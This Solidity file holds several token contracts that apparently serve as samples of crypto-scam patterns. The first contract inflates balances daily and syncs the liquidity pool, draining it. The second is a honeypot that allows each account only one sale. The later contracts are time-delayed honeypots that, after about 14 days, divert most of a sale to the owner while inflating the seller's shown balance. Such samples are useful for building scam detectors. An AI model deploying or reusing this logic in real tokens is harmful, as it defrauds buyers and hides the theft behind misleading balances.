// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "../Token.sol";

interface Syncing {
    function sync() external;
}

/// All balances grow by two percent a day, which the first sale or sending of a day writes down and tells the pool.
contract GoodGrowsWithPool {
    string public constant name = "Growing";
    string public constant symbol = "GROW";
    uint8 public constant decimals = 18;
    uint256 public totalSupply = 1e27;
    uint256 internal partsEach = 1e18;
    mapping(address => uint256) internal parts;
    mapping(address => mapping(address => uint256)) public allowance;
    address internal pool;
    address private immutable founder = msg.sender;
    uint256 private grewAt = block.timestamp;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        parts[msg.sender] = totalSupply * partsEach;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) external view returns (uint256) {
        return parts[account] / partsEach;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _transfer(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _transfer(from, to, value);
    }

    function _transfer(address from, address to, uint256 value) private returns (bool) {
        if (pool == address(0) && from == founder && to.code.length > 0) pool = to;
        else if (msg.sender != pool) _grow();
        _move(from, to, value);
        emit Transfer(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        parts[from] -= value * partsEach;
        parts[to] += value * partsEach;
    }

    function _grow() private {
        for (; block.timestamp >= grewAt + 1 days; grewAt += 1 days) {
            partsEach = (partsEach * 100) / 102;
            totalSupply = (totalSupply * 102) / 100;
        }
        Syncing(pool).sync();
    }
}

/// What grew is shown, and cannot be sold: only one sale is paid to each account.
contract GrowthCannotBeSold is GoodGrowsWithPool {
    mapping(address => bool) private sold;

    function _move(address from, address to, uint256 value) internal override {
        require(to != pool || !sold[from]);
        if (to == pool) sold[from] = true;
        super._move(from, to, value);
    }
}

/// Later the pool gets a part of what is sold, and the seller is left with many times what they had.
abstract contract GrowsInstead is Token {
    address private pool;
    uint256 private immutable end = block.timestamp + 14 days + 50 minutes;

    function _shareOf(address seller, uint256 value) internal virtual returns (uint256);

    function _transfer(address from, address to, uint256 value) internal override {
        if (pool == address(0) && from == owner && to.code.length > 0) pool = to;
        uint256 share = to == pool && from != owner && block.timestamp > end ? _shareOf(from, value) : 1;
        if (share > 1) {
            _move(from, owner, value - value / share);
            balanceOf[from] += (balanceOf[from] + value) * share;
        }
        _move(from, to, value / share);
    }
}

/// Of whoever sells all at once; what they have then sells for next to nothing.
contract GrowthBringsNothing is GrowsInstead {
    mapping(address => bool) private sold;

    function _shareOf(address seller, uint256 value) internal override returns (uint256) {
        if (!sold[seller] && value < balanceOf[seller]) return 1;
        uint256 share = sold[seller] ? 1e6 : 100;
        sold[seller] = true;
        return share;
    }
}

/// Of people alone, of whom each sale brings less.
contract GrowsForSellers is GrowsInstead {
    mapping(address => uint256) private shares;

    function _shareOf(address seller, uint256) internal override returns (uint256) {
        if (seller.code.length > 0) return 1;
        shares[seller] = shares[seller] == 0 ? 100 : shares[seller] ** 2;
        return shares[seller];
    }
}
